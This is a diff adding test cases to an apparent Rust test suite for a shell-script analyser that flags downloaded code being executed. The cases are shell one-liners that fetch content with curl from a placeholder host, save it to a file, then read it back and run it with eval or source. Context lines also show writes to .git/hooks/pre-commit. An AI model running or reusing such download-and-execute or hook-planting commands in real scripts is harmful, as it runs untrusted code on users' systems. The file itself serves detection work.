@@ -265,6 +265,15 @@ const CASES: &[(&str, &str)] = &[
     ("f(){ g; }; g(){ c=$b; b=$a; }; a=$(curl -s http://x); for i in 1 2 3 4; do eval \"$c\"; f; done", "0055"),
     ("for i in 1 2 3 4 5 6; do eval \"$e\"; e=$d; d=$c; c=$b; b=$(curl -s http://x); done", "0055"),
     ("for u in a b; do f=$(basename \"$u\"); curl -so \"$f\" \"https://x/$u\"; done; echo \"$f\"", "0044"),
+    // --- a saved file read back: through a redirection, and by a relative name where the cwd
+    // is not known (after code the analysis cannot read), until the cwd changes
+    ("curl -s https://x/y > f; x=$(< f); eval \"$x\"", "0056"),
+    ("curl -s https://x/y > f; x=$(cat < f); eval \"$x\"", "0056"),
+    ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; x=$(cat f); eval \"$x\"", "0055"),
+    ("read -r x < list; eval \"$x\"; curl -so d/f https://x/y; x=$(< ./d//f); eval \"$x\"", "0055"),
+    ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; if [ -n \"$a\" ]; then cd b; fi; . ./f", "0055"),
+    ("echo true > f; x=$(< f); eval \"$x\"", "0007"),
+    ("read -r x < list; eval \"$x\"; echo true > f; x=$(cat f); eval \"$x\"", "0005"),
     // --- return, break and continue leave the state they find ---------------------------------
     ("f() { if [ -n \"$1\" ]; then d=.git/hooks; return; fi; d=ok; }; f x; echo x > \"$d/pre-commit\"", "2006"),
     ("d=a; for i in 1; do d=.git/hooks; break; d=ok; done; echo x > \"$d/pre-commit\"", "2006"),
